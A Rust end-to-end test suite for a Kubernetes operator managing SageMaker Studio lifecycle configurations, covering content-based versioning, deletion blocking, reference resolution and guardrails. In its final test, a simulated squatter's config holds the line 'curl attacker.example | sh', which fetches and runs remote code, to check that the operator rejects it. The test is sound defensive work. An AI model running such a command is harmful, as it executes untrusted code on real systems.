//! StudioLifecycleConfig end to end: a script from a ConfigMap becomes a configuration named
//! after its content, settings refer to it by name, a new script is a new version and the old
//! one is deleted once unused, deletion waits while settings refer to it, and a reference that
//! cannot resolve holds the referrer with no AWS call.

use k8s_openapi::api::core::v1::ConfigMap;
use kube::Api;
use kube::api::DeleteParams;
use serde_json::{Value, json};
use studio_operator::api::{StudioLifecycleConfig, StudioLifecycleConfigStatus, UserProfile};

use crate::domain::{domain_manifest, setup};
use crate::profile::{apply, profile_manifest, ready_domain, tags_of, wait_for, wait_gone};
use crate::support::wait::{condition, has};

pub fn config_manifest(name: &str, app_type: &str, script_from: Option<&str>) -> Value {
    let mut spec = json!({"aws": {"region": "us-east-1"}, "appType": app_type});
    match script_from {
        Some(config_map) => spec["scriptFrom"] = json!({"configMapKeyRef": {"name": config_map, "key": "on-start.sh"}}),
        None => spec["script"] = json!("#!/bin/bash\necho inline\n"),
    }
    json!({
        "apiVersion": "studio-operator.io/v1alpha1",
        "kind": "StudioLifecycleConfig",
        "metadata": {"name": name},
        "spec": spec,
    })
}

fn scripts(script: &str) -> Value {
    json!({
        "apiVersion": "v1",
        "kind": "ConfigMap",
        "metadata": {"name": "scripts"},
        "data": {"on-start.sh": script},
    })
}

async fn wait_config(
    api: &Api<StudioLifecycleConfig>,
    name: &str,
    what: &str,
    probe: impl Fn(&StudioLifecycleConfigStatus) -> bool,
) -> StudioLifecycleConfigStatus {
    wait_for(api, name, what, |c| {
        let status = c.status.clone()?;
        (status.observed_generation == c.metadata.generation && probe(&status)).then_some(status)
    })
    .await
}

/// The lifecycle configurations in AWS whose name starts with `prefix`, name -> content.
async fn in_aws(s: &crate::domain::Setup, prefix: &str) -> Vec<(String, String)> {
    let listed = s
        .sagemaker
        .list_studio_lifecycle_configs()
        .name_contains(prefix)
        .send()
        .await
        .unwrap();
    let mut out = Vec::new();
    for config in listed.studio_lifecycle_configs() {
        let name = config.studio_lifecycle_config_name().unwrap_or_default().to_string();
        let described = s
            .sagemaker
            .describe_studio_lifecycle_config()
            .studio_lifecycle_config_name(&name)
            .send()
            .await
            .unwrap();
        let content = described.studio_lifecycle_config_content().unwrap_or_default();
        let decoded = aws_smithy_types::base64::decode(content).unwrap();
        out.push((name, String::from_utf8(decoded).unwrap()));
    }
    out
}

async fn jupyterlab_defaults(s: &crate::domain::Setup, domain_id: &str) -> (Vec<String>, Option<String>) {
    let described = s.sagemaker.describe_domain().domain_id(domain_id).send().await.unwrap();
    let lab = described
        .default_user_settings()
        .and_then(|u| u.jupyter_lab_app_settings())
        .cloned()
        .unwrap();
    (
        lab.lifecycle_config_arns().to_vec(),
        lab.default_resource_spec()
            .and_then(|r| r.lifecycle_config_arn())
            .map(str::to_string),
    )
}

#[tokio::test]
async fn a_lifecycle_config_is_referred_to_by_name_versioned_by_content_and_deleted_when_unused() {
    let s = setup("slc-ref").await;
    let ns = s.namespace.name.clone();
    let config_maps: Api<ConfigMap> = Api::namespaced(s.client.clone(), &ns);
    let configs: Api<StudioLifecycleConfig> = Api::namespaced(s.client.clone(), &ns);
    apply(&config_maps, "scripts", &scripts("#!/bin/bash\npip install polars\n")).await;
    apply(&configs, "pip", &config_manifest("pip", "JupyterLab", Some("scripts"))).await;
    let first = wait_config(&configs, "pip", "Ready", |st| has(&st.conditions, "Ready", "True")).await;
    let first_name = first.config_name.clone().unwrap();
    let first_arn = first.arn.clone().unwrap();
    assert!(first_name.starts_with("pip-"), "{first_name}");
    assert_eq!(
        in_aws(&s, "pip").await,
        [(first_name.clone(), "#!/bin/bash\npip install polars\n".to_string())]
    );
    let tags = tags_of(&s, &first_arn).await;
    assert!(tags.iter().any(|(k, _)| k == "studio-operator.io/uid"), "{tags:?}");

    let mut domain = domain_manifest("platform", "alias/studio");
    domain["spec"]["defaultUserSettings"] = json!({
        "executionRole": "arn:aws:iam::123456789012:role/StudioDefault",
        "jupyterLabAppSettings": {"lifecycleConfigs": [{"name": "pip", "default": true}]},
    });
    let domain_id = ready_domain(&s, domain.clone()).await;
    let (arns, default) = jupyterlab_defaults(&s, &domain_id).await;
    assert!(arns.contains(&first_arn), "{arns:?}");
    assert_eq!(default.as_deref(), Some(first_arn.as_str()));

    // A new script is a new configuration; the domain moves to it and the old one goes.
    apply(
        &config_maps,
        "scripts",
        &scripts("#!/bin/bash\npip install polars duckdb\n"),
    )
    .await;
    let second = wait_config(&configs, "pip", "a new version", |st| {
        st.config_name.as_deref() != Some(first_name.as_str()) && st.previous_versions.is_empty()
    })
    .await;
    let second_arn = second.arn.clone().unwrap();
    crate::support::wait::until(
        "the domain refers to the new version",
        std::time::Duration::from_secs(60),
        || {
            let s = &s;
            let domain_id = domain_id.clone();
            let second_arn = second_arn.clone();
            let first_arn = first_arn.clone();
            async move {
                let (arns, default) = jupyterlab_defaults(s, &domain_id).await;
                (arns.contains(&second_arn)
                    && !arns.contains(&first_arn)
                    && default.as_deref() == Some(second_arn.as_str()))
                .then_some(())
                .ok_or((arns, default))
            }
        },
    )
    .await;
    let names: Vec<String> = in_aws(&s, "pip").await.into_iter().map(|(n, _)| n).collect();
    assert_eq!(names, [second.config_name.clone().unwrap()]);

    // Deleting it while the domain refers to it waits, and names the domain.
    configs.delete("pip", &DeleteParams::default()).await.unwrap();
    let blocked = wait_for(&configs, "pip", "DeletionBlocked", |c| {
        let status = c.status.clone()?;
        condition(&status.conditions, "DeletionBlocked")
            .filter(|c| c.status == "True")
            .map(|c| c.message.clone())
    })
    .await;
    assert!(blocked.contains(&format!("StudioDomain {ns}/platform")), "{blocked}");
    assert_eq!(
        s.control().count("DeleteStudioLifecycleConfig", Some("ok")),
        1,
        "only the first version"
    );

    // Without the reference the configuration leaves AWS, then the resource goes.
    domain["spec"]["defaultUserSettings"] = json!({"executionRole": "arn:aws:iam::123456789012:role/StudioDefault"});
    s.apply("platform", &domain).await;
    wait_gone(&configs, "pip").await;
    assert!(in_aws(&s, "pip").await.is_empty());
}

#[tokio::test]
async fn a_reference_that_cannot_resolve_holds_the_profile_without_an_aws_call() {
    let s = setup("slc-bad").await;
    let ns = s.namespace.name.clone();
    ready_domain(&s, domain_manifest("platform", "alias/studio")).await;
    let profiles: Api<UserProfile> = Api::namespaced(s.client.clone(), &ns);
    let configs: Api<StudioLifecycleConfig> = Api::namespaced(s.client.clone(), &ns);
    let mut profile = profile_manifest("alice", "platform");
    profile["spec"]["userSettings"] =
        json!({"codeEditorAppSettings": {"lifecycleConfigs": [{"name": "editor-setup"}]}});
    apply(&profiles, "alice", &profile).await;
    let stalled = |reason: &'static str| {
        move |p: &UserProfile| {
            let status = p.status.clone()?;
            condition(&status.conditions, "Stalled")
                .filter(|c| c.status == "True" && c.reason == reason)
                .map(|c| c.message.clone())
        }
    };
    let message = wait_for(&profiles, "alice", "ReferenceNotFound", stalled("ReferenceNotFound")).await;
    assert!(message.contains("StudioLifecycleConfig editor-setup"), "{message}");

    apply(
        &configs,
        "editor-setup",
        &config_manifest("editor-setup", "JupyterLab", None),
    )
    .await;
    let message = wait_for(
        &profiles,
        "alice",
        "ReferenceWrongAppType",
        stalled("ReferenceWrongAppType"),
    )
    .await;
    assert!(message.contains("is for JupyterLab"), "{message}");
    assert_eq!(s.control().count("CreateUserProfile", None), 0);

    // A new app type is a new version; the profile then resolves.
    apply(
        &configs,
        "editor-setup",
        &config_manifest("editor-setup", "CodeEditor", None),
    )
    .await;
    let arn = wait_config(&configs, "editor-setup", "Ready for CodeEditor", |st| {
        has(&st.conditions, "Ready", "True") && st.previous_versions.is_empty() && st.arn.is_some()
    })
    .await
    .arn
    .unwrap();
    let created = wait_for(&profiles, "alice", "Ready", |p| {
        let status = p.status.clone()?;
        has(&status.conditions, "Ready", "True").then_some(status)
    })
    .await;
    let described = s
        .sagemaker
        .describe_user_profile()
        .domain_id(created.domain_id.unwrap())
        .user_profile_name("alice")
        .send()
        .await
        .unwrap();
    let arns = described
        .user_settings()
        .and_then(|u| u.code_editor_app_settings())
        .map(|c| c.lifecycle_config_arns().to_vec())
        .unwrap_or_default();
    assert_eq!(arns, [arn]);

    // The resource cannot go while the profile refers to it.
    configs.delete("editor-setup", &DeleteParams::default()).await.unwrap();
    let blocked = wait_for(&configs, "editor-setup", "DeletionBlocked", |c| {
        let status = c.status.clone()?;
        condition(&status.conditions, "DeletionBlocked")
            .filter(|c| c.status == "True")
            .map(|c| c.message.clone())
    })
    .await;
    assert!(blocked.contains(&format!("UserProfile {ns}/alice")), "{blocked}");
}

#[tokio::test]
async fn guardrails_stop_a_forbidden_role_and_an_unapproved_image_before_any_aws_call() {
    let s = setup("slc-guard").await;
    let ns = s.namespace.name.clone();
    let _guardrail = crate::guardrail::Installed::new(
        &s,
        "roles-images",
        "Enforce",
        json!({
            "allowedAwsRoles": ["arn:aws:iam::*:role/studio-operator-*"],
            "allowedImages": ["arn:aws:sagemaker:*:*:image/approved-*"],
        }),
    )
    .await;
    let configs: Api<StudioLifecycleConfig> = Api::namespaced(s.client.clone(), &ns);
    let images: Api<studio_operator::api::StudioImage> = Api::namespaced(s.client.clone(), &ns);
    let mut config = config_manifest("pip", "JupyterLab", None);
    config["spec"]["aws"]["roleArn"] = json!("arn:aws:iam::210987654321:role/other-team-admin");
    apply(&configs, "pip", &config).await;
    let image = json!({
        "apiVersion": "studio-operator.io/v1alpha1",
        "kind": "StudioImage",
        "metadata": {"name": "lab"},
        "spec": {
            "aws": {"region": "us-east-1"},
            "roleArn": "arn:aws:iam::123456789012:role/ImagePull",
            "appType": "CodeEditor",
            "versions": [{"baseImage": "123456789012.dkr.ecr.us-east-1.amazonaws.com/team/editor:1"}],
        }
    });
    apply(&images, "lab", &image).await;
    let violation = |c: &[k8s_openapi::apimachinery::pkg::apis::meta::v1::Condition]| {
        condition(c, "GuardrailViolation")
            .filter(|g| g.status == "True")
            .map(|g| g.message.clone())
            .filter(|_| has(c, "Stalled", "True"))
    };
    let message = wait_for(&configs, "pip", "GuardrailViolation", |c| {
        violation(&c.status.clone()?.conditions)
    })
    .await;
    assert!(message.contains("other-team-admin"), "{message}");
    let message = wait_for(&images, "lab", "GuardrailViolation", |i| {
        violation(&i.status.clone()?.conditions)
    })
    .await;
    assert!(message.contains("allowedImages"), "{message}");
    assert_eq!(
        s.control().count("AssumeRole", None),
        0,
        "no AssumeRole for a forbidden role"
    );
    assert_eq!(s.control().count("CreateStudioLifecycleConfig", None), 0);
    assert_eq!(s.control().count("CreateImage", None), 0);
}

#[tokio::test]
async fn a_domain_waiting_for_its_lifecycle_config_starts_when_it_is_ready_not_at_the_resync() {
    let client = crate::support::TestEnv::get().client().await;
    let namespace = crate::support::TestNamespace::new(&client, "slc-follow").await;
    // A resync far beyond the test's timeouts: only the watch of StudioLifecycleConfigs can
    // wake the stalled domain in time.
    let operator = crate::support::TestOperator::start_tuned(&client, &namespace.name, |config| {
        config.resync_interval = std::time::Duration::from_secs(3600);
    })
    .await;
    let s = crate::domain::Setup::new(client, namespace, operator);
    let ns = s.namespace.name.clone();
    let configs: Api<StudioLifecycleConfig> = Api::namespaced(s.client.clone(), &ns);
    s.key("alias/studio").await;
    let mut domain = domain_manifest("platform", "alias/studio");
    domain["spec"]["defaultUserSettings"] = json!({
        "executionRole": "arn:aws:iam::123456789012:role/StudioDefault",
        "jupyterLabAppSettings": {"lifecycleConfigs": [{"name": "late", "default": true}]},
    });
    s.apply("platform", &domain).await;
    wait_for(&s.domains, "platform", "ReferenceNotFound", |d| {
        let status = d.status.clone()?;
        condition(&status.conditions, "Stalled")
            .filter(|c| c.status == "True" && c.reason == "ReferenceNotFound")
            .map(|_| ())
    })
    .await;
    assert_eq!(s.control().count("CreateDomain", None), 0);
    apply(&configs, "late", &config_manifest("late", "JupyterLab", None)).await;
    let arn = wait_config(&configs, "late", "Ready", |st| has(&st.conditions, "Ready", "True"))
        .await
        .arn
        .unwrap();
    let domain_id = s.wait_ready("platform").await.status.unwrap().domain_id.unwrap();
    let (_, default) = jupyterlab_defaults(&s, &domain_id).await;
    assert_eq!(default.as_deref(), Some(arn.as_str()));
}

#[tokio::test]
async fn a_configuration_squatted_under_the_wanted_name_is_never_used_or_deleted() {
    let s = setup("slc-squat").await;
    let ns = s.namespace.name.clone();
    let configs: Api<StudioLifecycleConfig> = Api::namespaced(s.client.clone(), &ns);
    // Someone who may create lifecycle configurations computes the name the operator will use
    // (the name hashes only public inputs) and creates it first, with another script.
    let manifest = config_manifest("pip", "JupyterLab", None);
    let spec: studio_operator::api::StudioLifecycleConfigSpec =
        serde_json::from_value(manifest["spec"].clone()).unwrap();
    let owner = studio_operator::ownership::Owner {
        cluster: "e2e".into(),
        namespace: ns.clone(),
        name: "pip".into(),
        uid: String::new(),
    };
    let squatted = studio_operator::controller::lifecycle::version_name(&owner, &spec, spec.script.as_deref().unwrap());
    s.sagemaker
        .create_studio_lifecycle_config()
        .studio_lifecycle_config_name(&squatted)
        .studio_lifecycle_config_app_type(aws_sdk_sagemaker::types::StudioLifecycleConfigAppType::JupyterLab)
        .studio_lifecycle_config_content(aws_smithy_types::base64::encode("curl attacker.example | sh"))
        .send()
        .await
        .unwrap();
    apply(&configs, "pip", &manifest).await;
    let message = wait_for(&configs, "pip", "Conflict", |c| {
        let status = c.status.clone()?;
        condition(&status.conditions, "Stalled")
            .filter(|c| c.status == "True" && c.reason == "Conflict")
            .map(|c| c.message.clone())
    })
    .await;
    assert!(message.contains(&squatted), "{message}");
    let status = configs.get("pip").await.unwrap().status.unwrap();
    assert_eq!(status.arn, None, "the squatted ARN is never offered to settings");

    configs.delete("pip", &DeleteParams::default()).await.unwrap();
    wait_gone(&configs, "pip").await;
    assert_eq!(
        s.control().count("DeleteStudioLifecycleConfig", None),
        0,
        "{:?}",
        s.control().call_counts()
    );
    assert_eq!(
        in_aws(&s, "pip").await.len(),
        1,
        "the squatter's configuration is still there"
    );
}
